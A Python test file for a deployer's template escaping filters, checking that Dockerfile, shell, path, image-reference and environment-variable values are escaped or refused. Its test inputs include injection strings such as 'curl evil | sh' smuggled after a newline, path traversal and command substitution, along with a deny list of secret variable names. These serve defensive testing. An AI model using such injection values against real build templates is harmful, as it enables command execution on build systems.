"""Escaping filters: each output is inert in its target syntax, or the value is refused."""

from __future__ import annotations

import json
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deployer.errors import RenderError
from deployer.rendering import filters as f
from deployer.rendering.render import render_template

_CONTROL_FREE = st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs"),
                                               blacklist_characters="\u2028\u2029\x85"))


@given(st.lists(_CONTROL_FREE, min_size=1, max_size=5))
def test_docker_json_round_trips_through_json(argv: list[str]) -> None:
    out = f.docker_json(argv)
    assert json.loads(out) == argv
    assert "\n" not in out


@given(_CONTROL_FREE)
def test_sh_round_trips_through_shlex(value: str) -> None:
    assert shlex.split(f.sh(value)) == [value]


def _dockerfile_unquote(word: str) -> str:
    """How the Dockerfile parser reads a double-quoted ENV/LABEL word (escapes, no expansion)."""
    assert word[0] == word[-1] == '"'
    out, i, body = [], 0, word[1:-1]
    while i < len(body):
        ch = body[i]
        if ch == "\\" and i + 1 < len(body):
            out.append(body[i + 1])
            i += 2
            continue
        assert ch not in '"$', f"unescaped {ch!r} in {word!r}"
        out.append(ch)
        i += 1
    return "".join(out)


@given(_CONTROL_FREE)
def test_docker_str_escapes_quotes_backslashes_and_dollars(value: str) -> None:
    out = f.docker_str(value)
    assert _dockerfile_unquote(out) == value


@pytest.mark.parametrize("value", [
    "numpy\nRUN curl evil | sh", "a\rb", "tab\there", "nul\x00", "del\x7f", "line\u2028sep", "c1\x85",
])
@pytest.mark.parametrize("flt", [f.docker_str, f.sh, f.comment, f.docker_path, f.json_str])
def test_control_characters_are_refused_everywhere(flt, value: str) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(RenderError, match="control character|not a plain path"):
        flt(value)


def test_docker_json_refuses_newline_in_any_argument() -> None:
    with pytest.raises(RenderError, match="control character"):
        f.docker_json(["python", "-c", "print(1)\nRUN evil"])
    with pytest.raises(RenderError):
        f.docker_json([])
    with pytest.raises(RenderError):
        f.docker_json("python -c x")  # type: ignore[arg-type]


@pytest.mark.parametrize("path", ["/opt/ml/model", "model", "runtime/bin", "/tmp/deployer/wheels/"])
def test_docker_path_accepts_plain_paths(path: str) -> None:
    assert json.loads(f.docker_path(path)) == path
    assert f.bare_path(path) == path


@pytest.mark.parametrize("path", [
    "../etc", "/opt/../etc", "with space", 'quote"d', "it's", "$HOME", "${X}", "glob*", "a?b", "[ab]",
    "back\\slash", "", "a//b", "`cmd`",
])
def test_docker_path_refuses_anything_else(path: str) -> None:
    with pytest.raises(RenderError, match="not a plain path"):
        f.docker_path(path)


@pytest.mark.parametrize("ref", [
    "python:3.11-slim", "deployer-base/python:3.11-bookworm", "127.0.0.1:5000/team/model:1.0",
    "registry.example.com/a/b/c", "img@sha256:" + "a" * 64, "localhost/x:latest", "a__b:t",
])
def test_image_refs_accepted(ref: str) -> None:
    assert f.image(ref) == ref


@pytest.mark.parametrize("ref", [
    "Python:3.11", "python:3.11\nRUN evil", "python:3.11 AS x", "python:", ":tag", "a/../b", "img:tag:tag",
    "img@sha256:short", "-leading", "x" * 300, "img:" + "t" * 200, "$IMAGE",
])
def test_image_refs_refused(ref: str) -> None:
    with pytest.raises(RenderError):
        f.image(ref)


def test_env_vars_refuse_secrets_and_bad_names() -> None:
    assert f.check_env_var("MY_SETTING", 'x "y" $z') == ("MY_SETTING", 'x "y" $z')
    for bad in ["1X", "A-B", "A B", "A\nB", ""]:
        with pytest.raises(RenderError, match="not valid|control character"):
            f.check_env_var(bad, "v")
    for secretish in ["AWS_SECRET_ACCESS_KEY", "HF_TOKEN", "DB_PASSWORD", "https_proxy", "NO_PROXY",
                      "OPENAI_API_KEY", "PIP_INDEX_AUTH"]:
        with pytest.raises(RenderError, match="refusing to bake"):
            f.check_env_var(secretish, "v")
    with pytest.raises(RenderError) as err:
        f.check_env_var("X", "secret-value\nRUN evil")
    assert "secret-value" not in str(err.value)  # values of env vars are never echoed


def test_label_keys_and_user_specs() -> None:
    assert f.label_key("org.opencontainers.image.title") == "org.opencontainers.image.title"
    for bad in ["Upper.case", "a b", "a\nb", "-x", "x-", "a=b"]:
        with pytest.raises(RenderError):
            f.label_key(bad)
    assert f.user_spec("1000:1000") == "1000:1000" and f.user_spec("root") == "root"
    for bad in ["1000 :1", "root\nRUN", "a;b", ""]:
        with pytest.raises(RenderError):
            f.user_spec(bad)


def test_azure_names() -> None:
    assert f.azure_name("iris-endpoint") == "iris-endpoint"
    for bad in ["1abc", "ab", "a" * 33, "bad_name", "ends-", "x;rm"]:
        with pytest.raises(RenderError):
            f.azure_name(bad)


def test_number_filter() -> None:
    assert f.number(8080) == "8080"
    for bad in [-1, "8080", True, 1.5, None]:
        with pytest.raises(RenderError):
            f.number(bad)


def test_templates_refuse_unescaped_values(tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """The environment's finalize: a {{ value }} without a filter is an error, not output."""
    import jinja2

    from deployer.rendering import render

    env = render.environment()
    raw = env.from_string("RUN {{ cmd }}")
    with pytest.raises(RenderError, match="unescaped"):
        raw.render(cmd="curl evil | sh")
    assert env.from_string("RUN {{ cmd|docker_json }}").render(cmd=["echo", "hi"]) == 'RUN ["echo", "hi"]'
    with pytest.raises(jinja2.UndefinedError):
        env.from_string("{{ missing|sh }}").render()


def test_missing_template_variable_is_a_render_error() -> None:
    with pytest.raises(RenderError, match="needs a value"):
        render_template("serve.j2", target="local")
